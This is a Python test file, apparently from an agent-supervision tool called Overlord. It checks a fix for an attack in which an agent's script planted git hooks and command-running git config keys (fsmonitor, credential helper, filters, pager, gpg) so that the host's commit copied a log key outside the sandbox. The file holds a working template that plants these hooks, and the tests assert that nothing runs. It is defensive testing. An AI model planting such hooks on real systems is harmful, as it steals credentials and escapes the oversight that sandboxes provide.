"""Attack 5: code run on the host through a git repository the agent shaped; the log key stolen.

With ``[commit] on_pass = true`` in a root that was not a git repository, the agent's script ran
``git init`` and planted ``.git/hooks/reference-transaction``; after the run settled, Overlord's
commit ran ``git update-ref`` on the host, outside the sandbox, which ran the hook as Overlord's
user: it copied ``OVERLORD_HOME/keys/log.key``.

Now Overlord's git runs with hooks and the repository's configuration neutralised, and commits
only into the ``.git`` the run started with. The planted hooks, ``core.fsmonitor``, filters,
``diff.external``, a pager, a credential helper and gpg would each copy the key to a marker file
outside the root; after the run no marker exists and the key is where it was. The agent's
script is written and run by each real CLI (Claude Code, Codex, Gemini) with its own tools.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from tests.attacks.conftest import of
from tests.mission.test_mission_runs import run_mission, scripted, with_steps
from tests.truth.agents import RUNTIMES, cli, explain, mission, run, shell_block, write_block

HOOKS = ("reference-transaction", "pre-commit", "post-commit", "commit-msg", "post-index-change", "pre-auto-gc",
         "post-checkout", "post-rewrite", "pre-push", "fsmonitor-watchman")

PLANT = '''\
import os, stat, subprocess
KEY, MARKS, REPO = {key!r}, {marks!r}, {repo!r}
os.makedirs(os.path.join(REPO, ".git", "hooks"), exist_ok=True)
if not os.path.exists(os.path.join(REPO, ".git", "HEAD")):
    subprocess.run(["git", "init", "-q", REPO], check=True)
def steal(name):
    path = os.path.join(REPO, ".git", "steal-" + name)
    with open(path, "w") as f:
        f.write("#!/bin/sh\\ncp %s %s/stolen-%s 2>/dev/null; echo ran > %s/ran-%s; cat\\n" % (KEY, MARKS, name, MARKS, name))
    os.chmod(path, 0o755)
    return path
for hook in {hooks!r}:
    path = os.path.join(REPO, ".git", "hooks", hook)
    with open(path, "w") as f:
        f.write(open(steal(hook)).read())
    os.chmod(path, 0o755)
config = {{
    "core.hooksPath": os.path.join(REPO, ".git", "hooks"), "core.fsmonitor": steal("fsmonitor"),
    "core.pager": steal("pager"), "core.editor": steal("editor"), "core.sshCommand": steal("ssh"),
    "core.askPass": steal("askpass"), "diff.external": steal("diff"), "gpg.program": steal("gpg"),
    "commit.gpgSign": "true", "credential.helper": "!" + steal("credential"),
    "filter.steal.clean": steal("clean"), "filter.steal.smudge": steal("smudge"),
    "filter.steal.process": steal("process"), "filter.steal.required": "true",
    "core.alternateRefsCommand": steal("alternate-refs"), "uploadpack.packObjectsHook": steal("pack-objects"),
}}
for key, value in config.items():
    subprocess.run(["git", "--git-dir", os.path.join(REPO, ".git"), "config", key, value], check=True)
with open(os.path.join(REPO, ".gitattributes"), "w") as f:
    f.write("* filter=steal diff=steal\\n")
print("planted", len(config), "config keys and", len({hooks!r}), "hooks")
'''


def plant_script(*, key: Path, marks: Path, repo: Path) -> str:
    """The agent's script: a repository in ``repo`` whose every hook and command-running key
    would copy ``key`` into ``marks`` (and say it ran there)."""
    return PLANT.format(key=str(key), marks=str(marks), repo=str(repo), hooks=HOOKS)


def _nothing_ran(marks: Path, key: Path, before: bytes) -> None:
    assert sorted(p.name for p in marks.iterdir()) == [], "a planted hook or command ran on the host"
    assert key.read_bytes() == before


@pytest.mark.parametrize("runtime", RUNTIMES)
def test_an_agent_made_repository_is_refused_and_nothing_it_planted_runs(world, runtime):
    cli(runtime)
    tmp, home, root, env = world
    key, marks = home / "keys" / "log.key", tmp / "marks"
    marks.mkdir()
    before = key.read_bytes()
    script = plant_script(key=key, marks=marks, repo=root)
    turns = [{"blocks": [write_block(runtime, "x.py", script)]}, {"blocks": [shell_block(runtime, "python3 x.py")]},
             {"blocks": [{"text": "done"}]}]
    (tmp / "t.json").write_text(json.dumps(turns))
    s, entries, text = run(world, mission(runtime, str(tmp / "t.json"), extra="[commit]\non_pass = true\n"))

    assert (s["status"], s["stop_code"]) == ("succeeded", "completed"), explain(entries)
    assert (root / ".git" / "hooks" / "reference-transaction").exists(), "the agent's script did not plant its hook"
    _nothing_ran(marks, key, before)
    assert not of(entries, "Committed")
    books = of(entries, "Bookkeeping")
    assert len(books) == 1 and "commit refused" in books[0]["summary"], explain(entries)
    assert "started with no .git" in books[0]["summary"], books
    assert "commit refused" in text and "committed" not in text.split("timeline:")[0], text
    head = subprocess.run(["git", "--git-dir", str(root / ".git"), "rev-parse", "-q", "--verify", "HEAD"],
                          capture_output=True, text=True, env={"PATH": "/usr/bin:/bin", "HOME": "/nonexistent"})
    assert head.returncode != 0, "something was committed into the agent's repository"


def _git(root: Path, *args: str) -> str:
    env = {"PATH": "/usr/bin:/bin", "HOME": "/nonexistent", "GIT_CONFIG_NOSYSTEM": "1", "GIT_AUTHOR_NAME": "u",
           "GIT_AUTHOR_EMAIL": "u@x", "GIT_COMMITTER_NAME": "u", "GIT_COMMITTER_EMAIL": "u@x",
           "GIT_CONFIG_GLOBAL": "/dev/null"}
    return subprocess.run(["git", "-C", str(root), "-c", "core.hooksPath=/dev/null", *args], capture_output=True,
                          text=True, check=True, env=env).stdout


def test_overlords_commit_runs_none_of_a_repositorys_hooks_or_commands(world):
    """The repository the run started with is the owner's, and holds every hook and
    command-running key: Overlord's commit goes in, and runs none of them."""
    tmp, home, root, env = world
    key, marks = home / "keys" / "log.key", tmp / "marks"
    marks.mkdir()
    before = key.read_bytes()
    _git(root, "init", "-q", "-b", "main")
    (root / "a.txt").write_text("a\n")
    _git(root, "add", "a.txt")
    _git(root, "commit", "-q", "-m", "owner")
    subprocess.run([sys.executable, "-c", plant_script(key=key, marks=marks, repo=root)], check=True,
                   capture_output=True)
    with_steps(world, [{"write": str(root / "agent.py"), "content": "print('agent')\n"}, {"say": "done"}])
    s, entries, _ = run_mission(world, scripted(str(tmp / "steps.json"), timeout_ms=60000) + "[commit]\non_pass = true\n")
    assert s["stop_code"] == "completed", s
    assert of(entries, "Committed"), [e["summary"] for e in entries if e["event_type"] == "Bookkeeping"]
    _nothing_ran(marks, key, before)
    assert _git(root, "log", "-1", "--format=%an %s").startswith("Overlord overlord: run")
    assert _git(root, "show", "--name-status", "--format=", "HEAD").split() == ["A", "agent.py"]


def test_a_repository_reconfigured_during_a_bare_run_is_refused(world):
    """Under --no-sandbox the agent can write the owner's ``.git``: a config it changed during
    the run is not the repository the run started with."""
    tmp, home, root, env = world
    key, marks = home / "keys" / "log.key", tmp / "marks"
    marks.mkdir()
    _git(root, "init", "-q", "-b", "main")
    (root / "a.txt").write_text("a\n")
    _git(root, "add", "a.txt")
    _git(root, "commit", "-q", "-m", "owner")
    script = tmp / "plant.py"
    script.write_text(plant_script(key=key, marks=marks, repo=root))
    with_steps(world, [{"write": str(root / "agent.py"), "content": "x\n"}, {"spawn": f"{sys.executable} {script}"},
                       {"sleep": 2}, {"say": "done"}])
    (tmp / "mission.toml").write_text(scripted(str(tmp / "steps.json"), timeout_ms=60000) + "[commit]\non_pass = true\n")
    p = subprocess.run([*__import__("tests.conftest", fromlist=["overlord_cmd"]).overlord_cmd(), "run", "--json",
                        "--no-sandbox", "--mission", str(tmp / "mission.toml"), "--root", str(root)],
                       env=env, capture_output=True, text=True, timeout=120)
    s = json.loads(p.stdout)
    assert s["stop_code"] == "completed", (s, p.stderr)
    from tests.attacks.conftest import journal

    books = of(journal(env, s["run_id"]), "Bookkeeping")
    assert len(books) == 1 and "commit refused" in books[0]["summary"] and "config changed" in books[0]["summary"], books
    assert sorted(os.listdir(marks)) == [], "a planted hook or command ran on the host"
